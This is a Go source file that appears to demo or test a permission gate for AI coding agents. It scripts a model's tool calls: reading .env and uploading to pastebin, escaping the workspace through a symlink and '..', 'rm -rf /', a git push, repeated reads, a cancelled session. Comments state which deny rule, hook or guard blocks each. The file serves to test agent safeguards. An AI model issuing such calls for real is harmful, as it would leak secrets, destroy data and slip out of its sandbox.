package main

import (
	"context"
	"fmt"

	"github.com/toolgate/toolgate/runtime"
	"github.com/toolgate/toolgate/subagent"
)

// turn is one turn of the scripted model: what it says, the batch of tool
// calls it makes, and what the host or the person does before the calls
// are checked (nil: nothing). To add a step, append a turn to script.
type turn struct {
	says  string
	host  func(h *host, s *runtime.Session)
	calls []toolCall
}

// toolCall is one call of the scripted model.
type toolCall struct {
	tool  string
	input map[string]any
}

func bash(command string) toolCall {
	return toolCall{"Bash", map[string]any{"command": command}}
}

func read(path string) toolCall {
	return toolCall{"Read", map[string]any{"file_path": path}}
}

// script is the model's side of the conversation.
func script() []turn {
	return []turn{
		{says: "look around the project", calls: []toolCall{
			read("README.md"),
			{"Glob", map[string]any{"pattern": "**/*.go"}},
			bash("ls src"),
		}},
		{says: "look for credentials and send them away", calls: []toolCall{
			read(".env"), // a deny rule
			{"WebFetch", map[string]any{"url": "https://pastebin.com/api", "prompt": "upload"}}, // a hook
		}},
		{says: "try to leave the workspace", calls: []toolCall{
			read("escape/secret.txt"),     // a symbolic link out
			read("../outside/secret.txt"), // ".." out
		}},
		{says: "try destructive commands", calls: []toolCall{
			bash("rm -rf /"),             // always denied by the shell guard
			bash("git push origin main"), // a deny rule
		}},
		{says: "make a build directory", calls: []toolCall{
			bash("mkdir -p build"), // asks; the person answers "allow always"
		}},
		{says: "build again", calls: []toolCall{
			bash("mkdir -p build"),                // allowed by the recorded session rule
			bash("ls build && touch build/stamp"), // safe list and an allow rule
		}},
		{says: "delegate a review to a subagent", calls: []toolCall{
			{"Task", map[string]any{"subagent_type": "reviewer", "prompt": "review the build"}},
		}},
		{says: "read the same file again and again", calls: []toolCall{
			read("src/main.go"), read("src/main.go"), read("src/main.go"), // the third is a loop
		}},
		{says: "keep working past the step limit", calls: []toolCall{
			read("README.md"),
		}},
		{says: "keep going; the user cancels",
			host:  func(h *host, s *runtime.Session) { s.Cancel("the user pressed Esc") },
			calls: []toolCall{bash("ls")},
		},
	}
}

// reviewer is the scripted model of the reviewer subagent: it reads, then
// tries to write its review, which would ask the person; a subagent cannot
// ask, so that call is denied. It prints its calls as the host does.
func (h *host) reviewer(_ context.Context, t subagent.Turn) ([]runtime.Call, string, error) {
	if t.Step == 1 {
		fmt.Fprintf(h.out, "  subagent %s: %s\n", t.Agent, t.Task)
		return []runtime.Call{
			{ID: "review-1", Tool: "Read", Input: []byte(`{"file_path":"README.md"}`)},
			{ID: "review-2", Tool: "Write", Input: []byte(`{"file_path":"build/review.txt","content":"looks fine"}`)},
		}, "", nil
	}
	for _, r := range t.Results {
		h.report(r)
	}
	fmt.Fprintf(h.out, "  subagent %s: done\n", t.Agent)
	return nil, "the README reads well; the review could not be written", nil
}
